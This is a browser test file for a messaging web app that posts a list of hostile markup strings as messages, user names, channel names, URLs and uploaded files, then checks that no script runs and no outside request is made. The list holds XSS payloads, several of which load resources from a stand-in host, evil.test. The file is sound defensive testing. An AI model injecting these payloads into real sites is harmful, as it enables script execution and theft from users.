/**
 * Hostile messages and names of people, channels and files, on every page that shows them, in a real browser:
 * no script runs, no other origin gets a request, and there are only elements and attributes of the table (§6) and of the
 * page itself.
 */

import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { HIDDEN } from '../../../src/api/contract/schema.js'
import { isLong, partOf } from '../../amount.js'
import { expectAccessible, openPage, startBrowser, type Watched } from '../support/browser.js'
import { png } from '../support/images.js'
import { type Site, startSite } from '../support/site.js'

const MESSAGES = isLong ? 10_000 : 1_000
const IN_EACH = 100

let browser: Browser
let site: Site

beforeAll(async () => {
  ;[browser, site] = await Promise.all([startBrowser(), startSite({ UPLOAD_RATE_LIMIT: '0' })])
})

afterAll(async () => {
  await browser.close()
  await site.close()
})

/** Strings that would run or load something if a page treated them as markup. */
const attacks = [
  '</div></article></main><script>hacked()</script>',
  '<img src=x onerror=hacked()>',
  '"><script src=//evil.test/x.js></script>',
  '\'"><img src="//evil.test/x.png">',
  '" autofocus onfocus="hacked()" x="',
  '<iframe src="https://evil.test/">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<style>@import "//evil.test/x.css"</style>',
  '--><script>hacked()</script><!--',
  '&lt;script&gt;hacked()&lt;/script&gt; &#x3c;script>',
  '`"><img src=x onerror=hacked()>',
  '{{hacked()}} $& $1 $` %s <%= hacked() %>',
  'javascript:hacked()',
  'data:text/html,<script>hacked()</script>',
  '\u202e\u2066<script>\u2028\u2029',
  '</textarea></title></style></script><script>hacked()</script>',
]

/** The positions of an attack in a message. */
const places: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `# ${attack}`,
  (attack) => `* ${attack}\n* **${attack}**`,
  (attack) => `\`${attack}\``,
  (attack) => `\`\`\`${attack.replaceAll('`', '')}\n${attack}\n\`\`\``,
  (attack) => `[${attack}](https://example.com/${encodeURIComponent(attack)})`,
  (attack) => `[x](${attack.replace(/[\s<>()]/g, '')})`,
  (attack) =>
    `[x](javascript:${attack.replace(/[\s<>()]/g, '')}) [y](JaVaScRiPt:hacked) [z](vbscript:x) [w](data:text/html,x)`,
  (attack) => `https://example.com/${attack}`,
  (attack) => `<@1|${attack.replace(/[<>|`\p{Cc}]/gu, '')}>`,
  (attack) => `<@${attack.replace(/[<>|`\s\p{Cc}\p{Z}]/gu, '') || 'x'}|>`,
  (attack) => `<!${attack.replace(/[<>|`\s\p{Cc}\p{Z}]/gu, '') || 'x'}|${attack.replace(/[<>|`\p{Cc}]/gu, '')}>`,
  (attack) => `_${attack}_ -${attack}- *${attack}* \\${attack}`,
]

/** Joins many messages, so that a few hundred posts are enough; a file alone in its block would be rejected. */
function* bodies(): Generator<string> {
  let index = 0
  const next = (): string => {
    const attack = attacks[index % attacks.length] ?? ''
    const place = places[Math.floor(index / attacks.length) % places.length]
    index += 1
    const message = place?.(attack) ?? ''
    return message.startsWith('<!') ? `${index} ${message}` : message
  }
  while (index < MESSAGES) yield Array.from({ length: IN_EACH }, next).join('\n\n')
}

/** The elements of the table (§6), and those that pages put around and between them; and their attributes. */
const [elements, attributes] = [
  'H1 H2 H3 P UL OL LI PRE CODE STRONG EM U DEL BR A B BDI SPAN DIV IMG VIDEO FIGURE FIGCAPTION BUTTON TIME HEADER SECTION',
  `href rel class data-user-id data-file-id src alt width height loading controls preload title download dir tabindex role
  aria-label type datetime`,
].map((names) => new Set(names.split(/\s+/)))

/** Checks a page after its scripts have had time to run. */
async function expectHarmless({ page, requests, complaints }: Watched, where: string): Promise<void> {
  const found = await page.evaluate(() => {
    const inside = [
      ...document.querySelectorAll('.content *, .threads > li *, .places *, h1 *, .author *, .viewer *, .home *'),
    ]
    return {
      isHacked: 'wasHacked' in globalThis,
      elements: inside.map((element) => element.tagName),
      attributes: inside.flatMap((element) => element.getAttributeNames()),
      schemes: [...document.links].map((link) => link.protocol),
      others: document.querySelectorAll('script:not([src]), iframe, object, embed, base, svg, style, meta[http-equiv]')
        .length,
    }
  })
  expect({
    ...{ where, isHacked: found.isHacked, others: found.others, complaints },
    elements: found.elements.filter((name) => !elements?.has(name)),
    attributes: found.attributes.filter((name) => !attributes?.has(name)),
    schemes: found.schemes.filter((scheme) => !/^(https?|mailto):$/.test(scheme)),
    requests: requests.filter((url) => !url.startsWith(site.url)),
  }).toEqual({
    ...{ where, isHacked: false, others: 0, complaints: [], elements: [], attributes: [], schemes: [], requests: [] },
  })
}

async function watched(): Promise<Watched> {
  const opened = await openPage(browser)
  await opened.page.addInitScript(() => {
    Object.assign(globalThis, { hacked: () => Object.assign(globalThis, { wasHacked: true }) })
  })
  return opened
}

test(`${MESSAGES} hostile messages, and names, channels, chats and files like them, do nothing on any page`, async () => {
  const names = attacks.map((attack) => attack.replace(new RegExp(HIDDEN, 'gu'), '').slice(0, 60))
  const people = []
  for (const name of names) people.push(await site.person(name))
  const userIDs = people.map(({ id }) => id)
  const channels = []
  for (const [index, name] of names.entries()) {
    channels.push(await site.call('createChannel', { name: `${index} ${name}`, description: attacks[index], userIDs }))
  }
  const [channel] = channels
  const { chatID, chatURL = '' } = await site.call('createChat', { name: names[1], userIDs })
  const addresses = [`${site.url}/`, channel?.['channelURL'] ?? '', chatURL]
  let thread: Readonly<Record<string, string>> = {}
  let count = 0
  for (const body of bodies()) {
    const blocks = body.split('\n\n').map((block) => block || 'x')
    if (count % 25 === 0) {
      thread = await site.call('postThread', { channelID: channel?.['channelID'], blocks })
      addresses.push(thread['threadURL'] ?? '')
    } else if (count % 2 === 0) {
      const comment = await site.call('postComment', { threadID: thread['threadID'], blocks })
      if (count % 10 === 0) addresses.push(comment['commentURL'] ?? '')
    } else {
      const message = await site.call('postChatMessage', { chatID, body })
      if (count % 15 === 0) addresses.push(message['chatMessageURL'] ?? '')
    }
    count += 1
  }
  expect(count * IN_EACH).toBe(MESSAGES)
  const files = []
  for (const [index, name] of names.entries()) {
    const content = index % 2 === 0 ? png(40, 30) : `<script>hacked()</script> ${name}`
    files.push(await site.upload(content, `${name.replaceAll('/', '∕')}.svg`))
  }
  const mentions = userIDs.map((id) => `<@${id}|>, hello`)
  const shown = await site.call('postThread', {
    channelID: channel?.['channelID'],
    blocks: [...files.map((id) => `<!${id}|>`), ...mentions],
  })
  addresses.push(shown['threadURL'] ?? '')

  const opened = await watched()
  const { page } = opened
  await page.goto(people[1]?.link ?? '')
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.waitForURL(`${site.url}/`)
  for (const address of addresses) {
    await page.goto(address)
    for (;;) {
      await expectHarmless(opened, page.url())
      const older = page.locator('a[rel=next]')
      if ((await older.count()) === 0) break
      await Promise.all([page.waitForEvent('load'), older.click()])
    }
  }
  await page.goto(shown['threadURL'] ?? '')
  await expectAccessible(page)
  // A file that is opened directly is text or pixels, never a page.
  for (const id of files) {
    const response = await page.request.get(`${site.url}/files/${id}`)
    expect(response.headers()['content-type']).toMatch(/^(image\/png|text\/plain)/)
    expect(response.headers()['content-security-policy']).toBe("default-src 'none'; sandbox")
  }
}, 600_000)

test('a hostile URL does nothing on the pages that repeat it', async () => {
  const opened = await watched()
  for (const attack of partOf(attacks, 5)) {
    const value = encodeURIComponent(attack)
    for (const path of [
      `/${value}`,
      `/100001?s=${value}`,
      `/sign-in?return=${value}&link=${value}`,
      `/x/${value}?from=${value}&to=${value}`,
    ]) {
      await opened.page.goto(site.url + path)
      // For a missing page, the browser reports the status.
      const complaints = opened.complaints.filter((complaint) => !complaint.includes('404'))
      await expectHarmless({ ...opened, complaints }, path)
    }
  }
}, 300_000)
